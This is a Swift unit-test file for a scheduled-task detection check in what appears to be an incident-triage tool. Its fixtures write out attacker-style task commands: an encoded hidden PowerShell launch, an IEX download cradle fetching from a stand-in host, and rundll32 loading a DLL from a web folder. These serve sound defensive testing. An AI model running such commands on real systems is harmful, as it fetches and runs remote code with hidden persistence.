@testable import Detection
import ExTriageCore
import Testing
import TestSupport

/// HOST-SCHEDULED-TASKS over task XML written at test time (UTF-16LE with a BOM as Windows writes
/// it, and UTF-8): encoded PowerShell, download cradles and programs in web or temp folders are
/// found with the task's author, date, principal and command line; Microsoft's and Exchange's own
/// tasks stay quiet; a hidden SYSTEM task rises only near the attack window; a broken file is named.
@Suite struct ScheduledTaskFileCheckTests {
    struct Task {
        var author = "CORP\\Administrator"
        var date = "2021-03-03T07:48:10"
        var principal = "S-1-5-18"
        var hidden = false
        var command: String
        var arguments: String? = nil
    }

    static func xml(_ task: Task, uri: String) -> String {
        """
        <?xml version="1.0" encoding="UTF-16"?>
        <Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
          <RegistrationInfo>
            <Date>\(task.date)</Date>
            <Author>\(task.author)</Author>
            <URI>\(uri)</URI>
          </RegistrationInfo>
          <Triggers><BootTrigger><Enabled>true</Enabled></BootTrigger></Triggers>
          <Principals>
            <Principal id="Author">
              <UserId>\(task.principal)</UserId>
              <RunLevel>HighestAvailable</RunLevel>
            </Principal>
          </Principals>
          <Settings><Hidden>\(task.hidden)</Hidden><Enabled>true</Enabled></Settings>
          <Actions Context="Author">
            <Exec>
              <Command>\(task.command)</Command>\(task.arguments.map { "\n      <Arguments>\($0)</Arguments>" } ?? "")
            </Exec>
          </Actions>
        </Task>
        """
    }

    /// A task file as Windows writes it: UTF-16LE with a BOM (or UTF-8 when `utf8`).
    static func member(_ path: String, _ task: Task, utf8: Bool = false) -> (sourcePath: String, bytes: [UInt8]) {
        let text = xml(task, uri: "\\" + path)
        let bytes = utf8 ? Array(text.utf8) : [0xFF, 0xFE] + text.utf16.flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] }
        return ("Windows/System32/Tasks/" + path, bytes)
    }

    static func run(_ members: [(sourcePath: String, bytes: [UInt8])], logFindings: [Finding] = []) throws -> CheckRunner.Result {
        CheckHarness(binaryMembers: members, logFindings: logFindings).result([ScheduledTaskFileCheck(rules: try TestData.detection().tasks)])
    }

    static func findings(_ result: CheckRunner.Result) -> [Finding] { result.findings.filter { $0.checkId == "HOST-SCHEDULED-TASKS" } }

    @Test func encodedPowerShellAndToolsFromWebOrTempFoldersAreLikelyWithTheirTask() throws {
        let result = try Self.run([
            Self.member("Microsoft/Windows/UpdateOrchestrator/Refresh", Task(
                command: "powershell.exe", arguments: "-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=")),
            Self.member("Updater", Task(command: "cmd.exe", arguments: "/c \"IEX (New-Object Net.WebClient).DownloadString('http://x/a')\""),
                        utf8: true),
            Self.member("Sync", Task(command: "C:\\Windows\\Temp\\svc.exe")),
            Self.member("Helper", Task(command: "%windir%\\system32\\rundll32.exe",
                                       arguments: "C:\\inetpub\\wwwroot\\aspnet_client\\x.dll,Start")),
            Self.member("Backup", Task(command: "C:\\ProgramData\\bk\\backup.exe")),
        ])
        let findings = Self.findings(result)
        let likely = try #require(findings.first { $0.verdict == .likely })
        #expect(Set(likely.evidence.compactMap { $0.details?["Task"] })
                == ["\\Microsoft\\Windows\\UpdateOrchestrator\\Refresh", "\\Updater", "\\Sync", "\\Helper"])
        let encoded = try #require(likely.evidence.first { $0.details?["Task"] == "\\Microsoft\\Windows\\UpdateOrchestrator\\Refresh" })
        #expect(encoded.details?["Command"] == "powershell.exe")
        #expect(encoded.details?["Why"] == "powershell.exe with -enc")
        #expect(encoded.details?["Author"] == "CORP\\Administrator" && encoded.details?["Principal"] == "S-1-5-18")
        #expect(encoded.details?["Date"] == "2021-03-03T07:48:10")
        #expect(encoded.timestamp == Timestamp(iso8601: "2021-03-03T07:48:10Z"))
        #expect(encoded.originalPath == "Windows/System32/Tasks/Microsoft/Windows/UpdateOrchestrator/Refresh")
        #expect(likely.evidence.first { $0.details?["Task"] == "\\Updater" }?.details?["Why"] == "cmd.exe with iex")
        #expect(likely.pivots["taskName"]?.contains("\\Sync") == true)
        let attempt = try #require(findings.first { $0.verdict == .attempt })
        #expect(attempt.evidence.compactMap { $0.details?["Task"] } == ["\\Backup"], "ProgramData is writable, not a web or temp folder")
        #expect(result.coverage.first { $0.checkId == "HOST-SCHEDULED-TASKS" }?.records == 5)
    }

    @Test func microsoftAndExchangeTasksAndOrdinaryProgramsStayQuiet() throws {
        let defender = Task(author: "Microsoft Corporation", date: "2021-03-02T03:11:45", hidden: true,
                            command: "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.2101.9-0\\MpCmdRun.exe",
                            arguments: "Scan -ScheduleJob -ScanTrigger 55")
        let result = try Self.run([
            Self.member("Microsoft/Windows/Windows Defender/Windows Defender Scheduled Scan", defender),
            Self.member("Microsoft/Windows/Defrag/ScheduledDefrag", Task(
                author: "$(@%SystemRoot%\\system32\\defragsvc.dll,-801)", hidden: true, command: "%windir%\\system32\\defrag.exe",
                arguments: "-c -h -o -$")),
            Self.member("Microsoft/Windows/Exchange Server/ManagedAvailability", Task(
                author: "Microsoft", hidden: true,
                command: "\"C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\MSExchangeHMHost.exe\"")),
            Self.member("VMware Tools Update", Task(author: "VMware, Inc.", command: "\"C:\\Program Files\\VMware\\VMware Tools\\vmtoolsd.exe\"",
                                                    arguments: "-n vmusr")),
            Self.member("Cleanup", Task(principal: "CORP\\svc-backup", command: "powershell.exe",
                                        arguments: "-File \"C:\\Scripts\\cleanup.ps1\" -ExecutionPolicy Bypass")),
        ])
        let exploit = Finding(checkId: "C05", title: "t", severity: .critical, verdict: .confirmed, evidence: [Evidence(
            member: "evidence/C/Windows/System32/Tasks/Microsoft/Windows/Defrag/ScheduledDefrag",
            originalPath: "Windows/System32/Tasks/Microsoft/Windows/Defrag/ScheduledDefrag",
            timestamp: Timestamp(iso8601: "2021-03-03T07:00:00Z"), excerpt: "x", sha256: "")], explanation: "e")
        #expect(Self.findings(result).isEmpty)
        #expect(Self.findings(try Self.run([Self.member("Microsoft/Windows/Defrag/ScheduledDefrag", defender)], logFindings: [exploit])).isEmpty,
                "a hidden SYSTEM task of Microsoft's is not judged by the hidden-SYSTEM rule")
    }

    @Test func aHiddenSystemTaskRisesOnlyNearTheAttackWindow() throws {
        let task = Self.member("GoogleUpdateTaskMachineCore", Task(date: "2021-03-03T07:49:00", hidden: true,
                                                                   command: "C:\\Program Files\\Common\\updater.exe"))
        #expect(Self.findings(try Self.run([task])).map(\.verdict) == [.informational])
        // Log-finding evidence is bound to the manifest: it must name a collected member.
        let exploit = Finding(checkId: "C05", title: "t", severity: .critical, verdict: .confirmed, evidence: [Evidence(
            member: "evidence/C/" + task.sourcePath, originalPath: task.sourcePath, timestamp: Timestamp(iso8601: "2021-03-03T07:20:00Z"),
            excerpt: "x", sha256: "")], explanation: "e")
        let near = Self.findings(try Self.run([task], logFindings: [exploit]))
        #expect(near.map(\.verdict) == [.attempt])
        #expect(near.first?.evidence.first?.details?["Why"] == "hidden task running as SYSTEM")
        let old = Self.member("OldAgent", Task(date: "2019-01-10T10:00:00", hidden: true, command: "C:\\Program Files\\Agent\\agent.exe"))
        #expect(Self.findings(try Self.run([old, task], logFindings: [exploit])).map(\.verdict) == [.attempt, .informational])
    }

    @Test func aTaskFileThatIsNotWellFormedIsNamedAndReadUpToTheBreak() throws {
        var broken = Self.member("Dropper", Task(command: "C:\\Users\\Public\\a.exe"), utf8: true)
        broken.bytes = Array(broken.bytes.dropLast(40))
        let result = try Self.run([broken, (sourcePath: "Windows/System32/Tasks/Empty", bytes: [0xFF, 0xFE, 0x3C, 0x00])])
        let row = try #require(result.coverage.first { $0.checkId == "HOST-SCHEDULED-TASKS" })
        #expect(row.malformed == 2)
        #expect(row.reason?.contains("Windows/System32/Tasks/Dropper (line") == true)
        #expect(Self.findings(result).first?.evidence.first?.details?["Command"] == "C:\\Users\\Public\\a.exe",
                "the action read before the break is still judged")
    }

    @Test func noTaskFileIsNotApplicable() throws {
        let result = try Self.run([])
        #expect(result.coverage.first { $0.checkId == "HOST-SCHEDULED-TASKS" }?.status == .notApplicable)
    }
}
